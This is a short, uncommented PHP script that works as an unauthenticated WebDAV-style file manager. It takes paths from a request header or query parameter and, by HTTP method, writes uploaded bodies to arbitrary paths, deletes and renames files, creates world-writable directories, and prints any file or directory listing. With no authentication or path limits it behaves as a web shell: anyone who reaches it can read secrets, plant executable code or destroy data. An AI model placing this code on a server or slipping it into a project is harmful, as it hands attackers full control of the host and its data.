<?php
$f = $_SERVER['HTTP_DESTINATION'] ?? $_GET['f'] ?? '.';
switch ($_SERVER['REQUEST_METHOD']) {
    case 'PUT': $o = fopen($f, 'wb'); stream_copy_to_stream(fopen('php://input', 'rb'), $o); http_response_code(201); break;
    case 'DELETE': unlink($f); http_response_code(204); break;
    case 'MKCOL': mkdir($f, 0777, true); http_response_code(201); break;
    case 'MOVE': rename($_GET['s'], $f); break;
    default: is_dir($f) ? print implode("\n", scandir($f)) : readfile($f);
}
